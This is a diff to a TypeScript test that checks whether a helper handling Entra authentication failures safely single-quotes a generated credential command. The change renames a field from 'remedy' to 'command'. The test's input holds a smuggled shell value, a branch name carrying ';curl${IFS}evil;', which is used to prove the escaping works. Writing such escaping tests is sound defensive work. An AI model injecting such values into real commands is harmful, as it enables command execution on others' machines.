@@ -141,8 +141,8 @@ describe('a refusal of Entra', () => {
   test('the command that adds a credential is one of a shell, whatever the branch is called', () => {
     const hostile = { ...claims, sub: "repo:contoso/x:ref:refs/heads/';curl${IFS}evil;'" }
     const other = `e30.${Buffer.from(JSON.stringify(hostile)).toString('base64url')}.signature`
-    const { remedy } = entraFailure('AADSTS700213: No.', { ...attempt, assertion: other })
-    const [, argument = ''] = /--parameters (.*)$/.exec(remedy) ?? []
+    const { command } = entraFailure('AADSTS700213: No.', { ...attempt, assertion: other })
+    const [, argument = ''] = /--parameters (.*)$/.exec(command) ?? []
     // Between single quotes a shell obeys nothing; each quote of the text ends them, is escaped, and begins them anew.
     expect(argument).toMatch(/^'(?:[^']|'\\'')*'$/)
     const { subject } = JSON.parse(argument.slice(1, -1).replaceAll("'\\''", "'")) as { subject: string }
